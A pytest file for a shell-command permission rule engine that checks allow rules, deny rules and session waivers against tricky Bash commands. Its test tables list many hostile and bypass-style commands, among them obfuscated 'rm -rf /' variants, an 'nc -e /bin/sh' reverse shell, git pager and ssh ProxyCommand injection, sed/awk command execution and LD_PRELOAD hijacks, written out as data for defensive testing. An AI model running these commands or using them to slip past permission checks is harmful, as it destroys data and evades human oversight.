"""Issue 23, shell: siblings of each attack, judged by the rule engine every path uses.

An allow rule (bare, prefix) or a session waiver must never settle a command whose effect its text does not
show; deny and ask rules must catch a command however it is spelled. The commands that stay settled are here
too, so the fix does not turn every rule into a question.
"""

from __future__ import annotations

import pytest

from reviewer_app.domain.rule_choices import pattern_choices
from reviewer_app.domain.rules import Rule, RuleError, ToolCall, evaluate
from reviewer_app.domain.shell_effects import command_effects, deny_forms, mentions
from reviewer_app.domain.shell_scopes import CommandScope, scope_choices
from reviewer_app.domain.shell_tools import sed_script_problem
from reviewer_app.domain.waivers import SessionRule, describe_session_approval, rule_for


def verdict(effect: str, pattern: str, command: str) -> str | None:
    found = evaluate([Rule.create(effect, pattern, now=0)], ToolCall("Bash", {"command": command}, cwd="/w"), 1)
    return found.effect if found is not None else None


# (allow pattern, a command it must NOT settle)
NOT_SETTLED = [
    # the program is not a literal word
    ("Bash", "$'\\x72m' -rf ~"),
    ("Bash", '$"rm" -rf ~'),
    ("Bash", "X=rm; $X -rf /"),
    ("Bash", "${X:-rm} -rf /"),
    ("Bash", "{rm,-rf,/tmp/x}"),
    ("Bash", "r? -rf /tmp/x"),
    ("Bash", "echo $((1+2))"),
    ("Bash", "f(){ rm -rf /tmp/x; }; f"),
    ("Bash", "for x in rm; do $x -rf /tmp/y; done"),
    ("Bash", "rm -rf /tmp/x &"),
    ("Bash", "echo $(rm -rf /tmp/x)"),
    ("Bash", "cat <(rm -rf /tmp/x)"),
    ("Bash", "cat <<EOF\n$(rm -rf /tmp/x)\nEOF"),
    ("Bash", "alias ls='rm -rf /tmp/x'; ls"),
    ("Bash", "PATH=/tmp/evil ls"),
    ("Bash", "export PATH=/tmp/evil; ls"),
    ("Bash", "GIT_SSH_COMMAND='rm -rf /tmp/x' git fetch"),
    ("Bash", "LD_PRELOAD=/tmp/x.so ls"),
    # wrappers
    ("Bash", "env -S 'rm -rf /'"),
    ("Bash", "env -iS 'rm -rf /'"),
    ("Bash", "env --split-string='rm x' "),
    ("Bash", "flock /tmp/lock rm -rf /"),
    ("Bash", "flock -c 'rm x' /tmp/lock"),
    ("Bash", "unshare rm -rf /"),
    ("Bash", "unshare -r rm x"),
    ("Bash", "nohup rm x"),
    ("Bash", "timeout 5 rm x"),
    ("Bash", "nice -n 5 rm x"),
    ("Bash", "stdbuf -o0 rm x"),
    ("Bash", "setsid rm x"),
    ("Bash", "chroot / rm x"),
    ("Bash", "su -c 'rm x'"),
    ("Bash", "doas rm x"),
    ("Bash", "sudo rm x"),
    ("Bash", "command rm x"),
    ("Bash", "builtin eval 'rm x'"),
    ("Bash", "exec rm x"),
    ("Bash", "eval 'rm x'"),
    ("Bash", "watch 'rm x'"),
    ("Bash", "xargs rm < list"),
    ("Bash", "parallel rm ::: x"),
    ("Bash", "strace rm x"),
    ("Bash", "busybox rm x"),
    ("Bash(timeout:*)", "timeout 5 rm x"),
    ("Bash(env:*)", "env rm x"),
    # exec- and write-capable options of "read-only" tools
    ("Bash(find:*)", "find . -fprintf /tmp/out '%p'"),
    ("Bash(find:*)", "find . -fprint /tmp/out"),
    ("Bash(find:*)", "find . -fls /tmp/out"),
    ("Bash(find:*)", "find . -exec touch x \\;"),
    ("Bash(find:*)", "find . -execdir touch x \\;"),
    ("Bash(find:*)", "find . -ok touch x \\;"),
    ("Bash(find:*)", "find . -name $X"),
    ("Bash(find:*)", "find . $X"),
    ("Bash(sed -n:*)", "sed -n '1e touch /tmp/x' f"),
    ("Bash(sed:*)", "sed 's/a/b/e' f"),
    ("Bash(sed:*)", "sed '1!e id' f"),
    ("Bash(sed:*)", "sed 's/[/]/x/;1e id' f"),
    ("Bash(sed:*)", "sed -n '1w /tmp/o' f"),
    ("Bash(sed:*)", "sed -n '/x/W /tmp/o' f"),
    ("Bash(sed:*)", "sed 's/a/b/w /tmp/o' f"),
    ("Bash(sed:*)", "sed -i s/a/b/ f"),
    ("Bash(sed:*)", "sed -ni s/a/b/ f"),
    ("Bash(sed:*)", "sed --in-pl s/a/b/ f"),
    ("Bash(sed:*)", "sed -e p -e '1e id' f"),
    ("Bash(sed:*)", "sed --expression='1e id' f"),
    ("Bash(sed:*)", "sed -f script.sed f"),
    ("Bash(sed:*)", 'sed "$S" f'),
    ("Bash(awk:*)", "awk 'BEGIN{system(\"id\")}'"),
    ("Bash(awk:*)", "awk '{\"id\" | getline x}' f"),
    ("Bash(awk:*)", "awk '{print | \"sh\"}' f"),
    ("Bash(awk:*)", "awk '{print $1 > \"/tmp/o\"}' f"),
    ("Bash(awk:*)", "awk -f prog.awk f"),
    ("Bash(gawk:*)", "gawk -l /tmp/x.so '{print}'"),
    ("Bash(git grep:*)", "git grep --open-files-in-pager='rm -rf ~' x"),
    ("Bash(git grep:*)", "git grep --open-files='id' x"),
    ("Bash(git grep:*)", "git grep -Oid x"),
    ("Bash(git grep:*)", "git grep -iO id x"),
    ("Bash(git:*)", "git -c core.pager='id' log"),
    ("Bash(git:*)", "git -c alias.x='!id' x"),
    ("Bash(git:*)", "git --config-env=core.pager=X log"),
    ("Bash(git:*)", "git --exec-path=/tmp status"),
    ("Bash(git:*)", "git log --ext-diff"),
    ("Bash(git:*)", "git diff --output=out.txt"),
    ("Bash(git:*)", "git fetch --upload-pack='id' origin"),
    ("Bash(git:*)", "git push --receive-pack='id' origin"),
    ("Bash(git:*)", "git clone -u 'id' repo"),
    ("Bash(git:*)", "git clone -c core.fsmonitor=id repo"),
    ("Bash(git:*)", "git rebase -x id main"),
    ("Bash(git:*)", "git submodule foreach id"),
    ("Bash(git:*)", "git difftool -x id"),
    ("Bash(git:*)", "git config core.pager id"),
    ("Bash(git:*)", "git $SUB"),
    ("Bash(tar:*)", "tar xf a.tar --to-command='id'"),
    ("Bash(tar:*)", "tar --to-com=id -xf a.tar"),
    ("Bash(tar:*)", "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id f"),
    ("Bash(tar:*)", "tar --use-compress-program=id -xf a.tar"),
    ("Bash(tar:*)", "tar -xf a.tar -I id"),
    ("Bash(tar:*)", "tar xIf id a.tar"),
    ("Bash(rsync:*)", "rsync -e 'sh -c id' a b:"),
    ("Bash(rsync:*)", "rsync -avze id a b:"),
    ("Bash(rsync:*)", "rsync --rsh=id a b:"),
    ("Bash(rsync:*)", "rsync --rsync-path=id a b:"),
    ("Bash(less:*)", "less README.md"),
    ("Bash(more:*)", "more README.md"),
    ("Bash(man:*)", "man ls"),
    ("Bash(vi:*)", "vi f"),
    ("Bash(vim:*)", "vim -c ':!id' f"),
    ("Bash(nano:*)", "nano f"),
    ("Bash(emacs:*)", "emacs --batch --eval '(shell-command \"id\")'"),
    ("Bash(ssh:*)", "ssh -o ProxyCommand='id' host"),
    ("Bash(ssh:*)", "ssh -oProxyCommand=id host"),
    ("Bash(ssh:*)", "ssh -o 'LocalCommand id' -o PermitLocalCommand=yes host"),
    ("Bash(ssh:*)", "ssh -F ./cfg host"),
    ("Bash(scp:*)", "scp -S id a host:"),
    ("Bash(zip:*)", "zip -TT 'id' a.zip f"),
    ("Bash(zip:*)", "zip --unzip-command=id -T a.zip f"),
    ("Bash(python:*)", "python -c 'import os'"),
    ("Bash(python3:*)", "python3 -c 'print(1)'"),
    ("Bash(node:*)", "node -e 'x'"),
    ("Bash(node:*)", "node --eval 'x'"),
    ("Bash(perl:*)", "perl -e 'x'"),
    ("Bash(perl:*)", "perl -E 'x'"),
    ("Bash(ruby:*)", "ruby -e 'x'"),
    ("Bash(bash:*)", "bash -c 'ls'"),
    ("Bash(sh:*)", "sh -c 'ls'"),
    ("Bash(bash:*)", 'bash -c "$CODE"'),
    ("Bash(python3:*)", "python3 -Ic 'print(1)'"),
    ("Bash(perl:*)", "perl -ne 'system(\"id\")' f"),
    ("Bash(perl:*)", "perl -M'POSIX;system(\"id\")' x.pl"),
    ("Bash(node:*)", "node -pe 1"),
    ("Bash(ruby:*)", "ruby -ne 'x'"),
    ("Bash(php:*)", "php -r 'x'"),
    ("Bash(sort:*)", "sort --compress-prog=id f"),
    ("Bash(wget:*)", "wget --use-askpass=id https://example.com"),
    ("Bash(nc:*)", "nc -e /bin/sh host 1"),
    ("Bash(ncat:*)", "ncat --sh-exec id host 1"),
    ("Bash(socat:*)", "socat - EXEC:id"),
    ("Bash(tcpdump:*)", "tcpdump -w f -z id"),
    ("Bash", "at now"),
    ("Bash", "python $X"),
    ("Bash", "python -W ignore -c 'print(1)'"),
    ("Bash", "set -k; ls"),
    ("Bash", "timeout 5 at now"),
    ("Bash", "ssh-agent rm x"),
    ("Bash(psql:*)", "psql -c '\\! id'"),
    ("Bash(sqlite3:*)", "sqlite3 db '.shell id'"),
]


@pytest.mark.parametrize(("pattern", "command"), NOT_SETTLED, ids=[row[1][:50] for row in NOT_SETTLED])
def test_an_allow_rule_does_not_settle_what_its_text_cannot_show(pattern: str, command: str) -> None:
    assert verdict("allow", pattern, command) is None
    assert command_effects(command).reasons, command
    # no session waiver either: approve-for-session grants nothing, and no stored scope covers it
    assert rule_for("Bash", {"command": command}) is None
    assert not SessionRule("Bash", CommandScope.exact(command)).matches("Bash", {"command": command})


# (allow pattern, a command it still settles): the fix must not turn every rule into a question
STILL_SETTLED = [
    ("Bash(git:*)", "git status"),
    ("Bash(git:*)", "git -c color.ui=always status"),
    ("Bash(git:*)", "git -C sub log --oneline"),
    ("Bash(git:*)", "git push -u origin main"),
    ("Bash(git:*)", "git grep -e O x"),
    ("Bash(git:*)", "git config --get user.name"),
    ("Bash(sed:*)", "sed -n 1p f"),
    ("Bash(sed:*)", "sed 's/a|b/c/g' f"),
    ("Bash(sed:*)", "sed -E 's/(we|ew)/x/2' f"),
    ("Bash(sed:*)", "sed -n '/start/,/end/p' f"),
    ("Bash(sed:*)", "sed -e 's/a/b/' -e 'y/abc/xyz/' f"),
    ("Bash(awk:*)", "awk '{print $1}' f"),
    ("Bash(awk:*)", "awk -F: '$3 > 100 {print $1}' f"),
    ("Bash(tar:*)", "tar -tzf a.tar.gz"),
    ("Bash(tar:*)", "tar czf out.tar.gz src"),
    ("Bash(find:*)", "find . -name '*.py' -type f"),
    ("Bash(rsync:*)", "rsync -av src/ dst/"),
    ("Bash(ssh:*)", "ssh -o BatchMode=yes host uptime"),
    ("Bash", "command -v git"),
    ("Bash", "ls -la src && cat README.md"),
    ("Bash", "FOO=1 npm test"),
    ("Bash", "echo {a,b}"),
    ("Bash", "ls $HOME"),
    ("Bash", "git -C ~/project status"),
    ("Bash", "python script.py"),
    ("Bash(python:*)", "python -m pytest -q"),
    ("Bash", "python manage.py runserver $PORT"),
    ("Bash", "python manage.py -c x"),
    ("Bash", "set -euo pipefail; ls"),
    ("Bash(node:*)", "node app.js"),
    ("Bash(sort:*)", "sort -u f"),
    ("Bash(nc:*)", "nc -zv host 80"),
]


@pytest.mark.parametrize(("pattern", "command"), STILL_SETTLED, ids=[row[1][:50] for row in STILL_SETTLED])
def test_plain_commands_are_still_settled(pattern: str, command: str) -> None:
    assert verdict("allow", pattern, command) == "allow", command_effects(command)
    assert command_effects(command).plain


# (deny pattern, a command that runs it)
DENIED = [
    ("Bash(git push:*)", "git -C . push"),
    ("Bash(git push:*)", "git -c k=v push"),
    ("Bash(git push:*)", "git --git-dir=.git push"),
    ("Bash(git push:*)", "git --no-pager push"),
    ("Bash(git push:*)", "git --no-pager -C x -c a=b --work-tree=. push --force"),
    ("Bash(git push:*)", "sudo -u git git push"),
    ("Bash(git push:*)", "env A=B git push"),
    ("Bash(git push:*)", "env -S 'git push'"),
    ("Bash(git push:*)", "command git push"),
    ("Bash(git push:*)", "nice -n 5 git push"),
    ("Bash(git push:*)", "timeout -s KILL 5 git push"),
    ("Bash(git push:*)", "flock /tmp/l git push"),
    ("Bash(git push:*)", "nohup git -C x push"),
    ("Bash(git push:*)", "X=git; $X push"),
    ("Bash(git push:*)", "$'\\x67it' push"),
    ("Bash(git push:*)", "g'i't push"),
    ("Bash(git push:*)", "python -c 'import os; os.system(\"git push\")'"),
    ("Bash(git push:*)", "find . -maxdepth 0 -exec git -C . push \\;"),
    ("Bash(git push:*)", "(cd x && git push)"),
    ("Bash(git push:*)", "ls | git push"),
    ("Bash(git push:*)", "ls; git -c x=y push"),
    ("Bash(git push:*)", "echo $(git push)"),
    ("Bash(git push:*)", "sh -c 'git -C . push'"),
    ("Bash(git push:*)", "xargs git push < /dev/null"),
    ("Bash(git push)", "git -C . push"),
    ("Bash(npm publish:*)", "npm --prefix x publish"),
    ("Bash(docker rm:*)", "docker --context x rm c"),
    ("Bash(kubectl delete:*)", "kubectl -n ns delete pod x"),
    ("Bash(rm:*)", "sudo -u x rm y"),
    ("Bash(rm:*)", "busybox rm y"),
    ("Bash(rm:*)", "unshare -r rm y"),
]


@pytest.mark.parametrize(("pattern", "command"), DENIED, ids=[row[1][:50] for row in DENIED])
def test_deny_and_ask_see_through_global_options_wrappers_and_spelling(pattern: str, command: str) -> None:
    assert verdict("deny", pattern, command) == "deny"
    assert verdict("ask", pattern, command) == "ask"


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("Bash(git push:*)", "git status"),
        ("Bash(git push:*)", "git -c color.ui=always status"),
        ("Bash(git push:*)", "git log --grep push"),
        ("Bash(npm publish:*)", "npm run publish-docs"),
        ("Bash(rm:*)", "echo rm"),
    ],
)
def test_deny_does_not_catch_what_does_not_run_it(pattern: str, command: str) -> None:
    assert verdict("deny", pattern, command) is None


def test_an_exact_allow_rule_settles_a_visible_effect_but_never_a_hidden_one() -> None:
    # find -delete and python -c show their whole effect in the text: the operator wrote exactly this
    assert verdict("allow", "Bash(find . -name '*.pyc' -delete)", "find . -name '*.pyc' -delete") == "allow"
    assert verdict("allow", "Bash(python3 -c 'print(1)')", "python3 -c 'print(1)'") == "allow"
    assert verdict("allow", "Bash(python3 -c 'print(1)')", "python3 -c 'print(2)'") is None
    # stdin, a script file, a pager or a variable decide the effect: no text can show it
    hidden = ("xargs rm", "sed -f s.sed f", "less f", "sed -n '1e id' f", 'find . -name "$X"', "sudo xargs rm")
    for command in (*hidden, "timeout 5 env -S 'ls'", "nice watch ls"):
        with pytest.raises(RuleError, match="asked every time"):
            Rule.create("allow", f"Bash({command})", now=0)
        Rule.create("deny", f"Bash({command})", now=0)  # deny and ask rules may still name it


def test_session_approval_explains_why_it_grants_nothing() -> None:
    text = describe_session_approval("Bash", {"command": "env -S 'ls'"})
    assert text.startswith("approve this call only") and "env -S" in text
    assert scope_choices("find . -delete") == []
    assert pattern_choices(ToolCall("Bash", {"command": "find . -delete"}))[0] == "Bash(find . -delete)"


def test_a_session_scope_stored_before_effects_were_judged_is_judged_again() -> None:
    old = {"kind": "exact", "text": "timeout 5 rm x", "words": ["timeout", "5", "rm", "x"], "waivable": True}
    rule = SessionRule.from_dict({"tool_name": "Bash", "scope": old})
    assert not rule.matches("Bash", {"command": "timeout 5 rm x"})
    plain = SessionRule.from_dict({"tool_name": "Bash", "scope": CommandScope.exact("git status").to_dict()})
    assert plain.matches("Bash", {"command": "git status"})


def test_deny_forms_and_mentions() -> None:
    forms = set(deny_forms(("git", "-C", ".", "-c", "k=v", "push", "origin")))
    assert ("git", "push", "origin") in forms
    assert ("cmd", "a") in set(deny_forms(("sudo", "-u", "x", "cmd", "a")))
    assert mentions("$'\\x67it' push", "git") and mentions("g'i't push", "git") and not mentions("gitk", "git")


@pytest.mark.parametrize(
    ("script", "problem"),
    [
        ("p", None),
        ("s/a/b/g", None),
        ("1e id", "exec"),
        ("s/x/y/e", "exec"),
        ("s/x/y/w out", "write"),
        ("/re/w out", "write"),
        ("$!N;P;D", None),
        ("y/ab/cd/", None),
        ("s/[/]/x/", None),
        ("1{p;e id\n}", "exec"),
        ("a\\\nhello e", None),
        ("s/x/y/Z", "s command flags 'Z'"),
        ("k", "command 'k'"),
    ],
)
def test_sed_scripts_are_read_command_by_command(script: str, problem: str | None) -> None:
    assert sed_script_problem(script) == problem
